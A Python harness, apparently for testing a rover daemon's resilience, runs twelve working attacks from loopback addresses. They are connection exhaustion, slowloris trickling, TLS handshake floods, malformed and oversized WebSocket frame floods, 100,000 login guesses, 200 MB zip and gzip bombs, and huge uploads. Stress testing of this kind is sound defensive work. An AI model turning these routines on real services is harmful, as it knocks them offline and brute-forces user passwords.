#!/usr/bin/env python3
"""Attacks on a roverd that speaks TLS: attacks.py NAME HOST PORT AUTHORITY [TOKEN]

Prints "ready" when the attack is on, goes on until SIGTERM, and then prints as one JSON object what it was
given. A program of its own, so that whoever measures meanwhile does nothing else. They come from other
addresses of this computer (127.0.0.2 ...), which count as other computers."""

import base64
import collections
import contextlib
import gzip
import io
import itertools
import json
import os
import re
import resource
import signal
import socket
import ssl
import struct
import sys
import threading
import time
import zipfile

FOES = [f"127.0.0.{i}" for i in range(2, 10)]
over = threading.Event()
got = collections.Counter()


class Target:
    def __init__(self, host, port, authority, token=""):
        self.place = (host, int(port))
        self.name = f"localhost:{port}"
        self.trust = ssl.create_default_context(cafile=authority)
        self.token = token

    def plain(self, source=FOES[0], seconds=5):
        return socket.create_connection(self.place, seconds, source_address=(source, 0))

    def secret(self, source=FOES[0], seconds=5):
        return self.trust.wrap_socket(self.plain(source, seconds), server_hostname="localhost")

    def head(self, method, path, *lines):
        shown = [f"Authorization: Bearer {self.token}"] if self.token else []
        return ("\r\n".join([f"{method} /api/v1{path} HTTP/1.1", f"Host: {self.name}", *shown, *lines])
                + "\r\n\r\n").encode()

    def stream(self, source=FOES[0]):
        """@return the WebSocket's connection, and the head of the answer"""
        one = self.secret(source)
        one.sendall(self.head("GET", "/stream", "Connection: Upgrade", "Upgrade: websocket",
                              "Sec-WebSocket-Version: 13", "Sec-WebSocket-Extensions: permessage-deflate",
                              "Sec-WebSocket-Key: " + base64.b64encode(os.urandom(16)).decode()))
        said = b""
        while b"\r\n\r\n" not in said:
            piece = one.recv(4096)
            if not piece:
                break
            said += piece
        return one, said.split(b"\r\n\r\n", 1)[0].decode()


def frame(opcode, payload, masked=True, first=0x80):
    """A client's frame, masked with zeros."""
    mask = 0x80 if masked else 0
    size = len(payload)
    if size < 126:
        head = struct.pack("!BB", first | opcode, mask | size)
    elif size < 65536:
        head = struct.pack("!BBH", first | opcode, mask | 126, size)
    else:
        head = struct.pack("!BBQ", first | opcode, mask | 127, size)
    return head + (b"\0\0\0\0" if masked else b"") + payload


def is_open(one):
    """Plain or TLS, without waiting."""
    one.setblocking(False)
    try:
        while one.recv(65536):
            pass
        return False
    except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
        return True
    except OSError:
        return False


def ready():
    print("ready", flush=True)


def idle(target):
    """2,000 connections of one address that say nothing, half of them after the handshake"""
    crowd = []
    for i in range(2000):
        with contextlib.suppress(OSError):
            crowd.append(target.secret() if i % 2 else target.plain())
            got["opened"] += 1
    ready()
    over.wait()
    got["still open"] = sum(is_open(one) for one in crowd)


def slow(target):
    """600 bodies, 200 heads and 200 handshakes of which a byte comes now and then, opened again when closed."""
    kinds = {"head": (True, b"GET /api/v1/vehicle HTTP/1.1\r\nHost: localhost\r\nX-Slow: "),
             "body": (True, target.head("POST", "/session", "Content-Type: application/json",
                                        "Content-Length: 60000")),
             "handshake": (False, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")}
    crowd = [(kind, None) for kind in ("body", "head", "body", "handshake", "body") * 200]

    def open_one(kind):
        secret, first = kinds[kind]
        one = target.secret() if secret else target.plain()
        one.sendall(first)
        got[f"{kind} opened"] += 1
        return one

    def trickle():
        for at, (kind, one) in enumerate(crowd):
            if over.is_set():
                return
            try:
                if one is None or not is_open(one):
                    one = open_one(kind)
                one.setblocking(True)
                one.settimeout(1)
                one.sendall(b"a")
            except OSError:
                one = None
                got[f"{kind} refused"] += 1
            crowd[at] = (kind, one)

    trickle()
    ready()
    while not over.wait(0.1):
        trickle()


def handshakes(target):
    """Full handshakes one after the other, from four threads and four addresses."""
    def shake(source):
        while not over.is_set():
            try:
                target.secret(source).close()
                got["handshakes"] += 1
            except OSError:
                got["refused"] += 1

    run([lambda s=s: shake(s) for s in FOES[:4]])


def run(works):
    threads = [threading.Thread(target=work, daemon=True) for work in works]
    for thread in threads:
        thread.start()
    ready()
    over.wait()
    end = time.monotonic() + 3
    for thread in threads:
        thread.join(max(0, end - time.monotonic()))


def flood(target, block):
    """Blocks of bytes on streams, as fast as they are taken; each stream opened again when it is closed."""
    def pour(source):
        while not over.is_set():
            try:
                one, head = target.stream(source)
            except OSError:
                got["refused"] += 1
                continue
            if " 101 " in head.split("\r\n")[0]:
                got["streams"] += 1
                got["deflate agreed"] += "extensions" in head.lower()
                reader = threading.Thread(target=drain, args=(one,), daemon=True)
                reader.start()
                fill(one)
            else:
                got[(head + " ? ").split(" ")[1]] += 1
                time.sleep(0.05)
            one.close()

    def fill(one):
        try:
            one.settimeout(2)
            while not over.is_set():
                one.sendall(block)
                got["blocks"] += 1
        except OSError:
            got["closed"] += 1

    def drain(one):
        with contextlib.suppress(OSError, ValueError):
            while one.recv(65536):
                pass

    run([lambda s=s: pour(s) for s in FOES[:4]])


def messages(target):
    """Small right messages, as many as go."""
    flood(target, frame(1, b'{"ping":1}') * 2000)


def nonsense(target):
    """Small wrong messages, as many as go."""
    flood(target, frame(1, b'{"drive":[[[[[[[[') * 2000)


def pings(target):
    """Ping frames, as many as go."""
    flood(target, frame(9, b"x" * 125) * 500)


def huge(target):
    """Frames that say they are 4 EB long."""
    flood(target, struct.pack("!BBQ", 0x81, 0xFF, 1 << 62) + b"\0\0\0\0" + b" " * 65536)


def pieces(target):
    """Messages that never end."""
    flood(target, frame(1, b"[", first=0) + frame(0, b"[", first=0) * 5000)


def unmasked(target):
    """Frames without a mask, which no client may send."""
    flood(target, frame(1, b'{"estop":false}', masked=False))


def statuses_of(one, many):
    """The statuses of so many answers."""
    said, seen = b"", 0
    while seen < many:
        piece = one.recv(65536)
        if not piece:
            raise ConnectionError("closed")
        said += piece
        end = 0
        for found in re.finditer(rb"HTTP/1\.1 (\d{3}) ", said):
            got[found[1].decode()] += 1
            seen += 1
            end = found.end()
        said = said[max(end, len(said) - 32):]


GUESSES = 100_000
AHEAD = 100


def guess(target):
    """100,000 log-ins of users that there are and others, from eight addresses."""
    number = itertools.count()

    def ask(source):
        while not over.is_set():
            try:
                with target.secret(source, 60) as one:
                    while not over.is_set():
                        first = next(number) * AHEAD
                        if first >= GUESSES:
                            return
                        asked = b""
                        for i in range(first, first + AHEAD):
                            user = ("anna", "carl", f"user{i}")[i % 3]
                            body = json.dumps({"user": user, "password": f"guess number {i}"})
                            asked += target.head("POST", "/session", "Content-Type: application/json",
                                                 f"Content-Length: {len(body)}") + body.encode()
                        one.sendall(asked)
                        statuses_of(one, AHEAD)
            except OSError:
                got["closed"] += 1

    begin = time.monotonic()
    threads = [threading.Thread(target=ask, args=(source,), daemon=True) for source in FOES]
    for thread in threads:
        thread.start()
    ready()
    while any(thread.is_alive() for thread in threads) and not over.is_set():
        time.sleep(0.05)
    got["milliseconds"] = round(1000 * (time.monotonic() - begin))
    print("done", flush=True)
    over.wait()


def kmz_bomb(megabytes):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("doc.kml", b"<kml>" + b" " * (megabytes << 20) + b"</kml>")
    return packed.getvalue()


def answer_to(one, request):
    """@return the status of one answer, which is read to its end"""
    one.sendall(request)
    said = b""
    while b"\r\n\r\n" not in said:
        piece = one.recv(65536)
        if not piece:
            return 0
        said += piece
    head, body = said.split(b"\r\n\r\n", 1)
    length = re.search(rb"(?i)content-length: (\d+)", head)
    while length and len(body) < int(length[1]):
        body += one.recv(65536)
    return int(head.split(b" ", 2)[1])


def bombs(target):
    """Files that are small until they are unpacked: KMZ and gzip, 200 MB each."""
    files = [("kmz", kmz_bomb(200), ()),
             ("gzip", gzip.compress(b'{"name":"' + b" " * (200 << 20)), ("Content-Encoding: gzip",))]

    def throw(source):
        for kind, body, more in itertools.cycle(files):
            if over.is_set():
                return
            path = "/missions/import?format=kmz" if kind == "kmz" else "/missions"
            request = target.head("POST", path, "Content-Type: application/json",
                                  f"Content-Length: {len(body)}", *more) + body
            try:
                with target.secret(source, 30) as one:
                    got[f"{kind} {answer_to(one, request)}"] += 1
            except OSError:
                got[f"{kind} closed"] += 1

    run([lambda s=s: throw(s) for s in FOES[:2]])


def bodies(target):
    """50 MB of nothing for the import, from four addresses at once."""
    body = b" " * 1_000_000

    def send(source):
        while not over.is_set():
            try:
                with target.secret(source, 30) as one:
                    one.sendall(target.head("POST", "/missions/import?format=geojson", "Content-Length: 50000000"))
                    for _ in range(50):
                        if over.is_set():
                            return
                        one.sendall(body)
                    got[str(answer_to(one, b""))] += 1
            except OSError:
                got["closed"] += 1

    run([lambda s=s: send(s) for s in FOES[:4]])


ATTACKS = [idle, slow, handshakes, messages, nonsense, pings, huge, pieces, unmasked, guess, bombs, bodies]

def end_at_sigterm():
    """In a thread: a handler would be called while the main one waits, and could not tell it."""
    signal.sigwait([signal.SIGTERM])
    over.set()


if __name__ == "__main__":
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGTERM])
    threading.Thread(target=end_at_sigterm, daemon=True).start()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192), hard))
    {attack.__name__: attack for attack in ATTACKS}[sys.argv[1]](Target(*sys.argv[2:]))
    print(json.dumps(got), flush=True)
    os._exit(0)  # threads that still wait for a socket
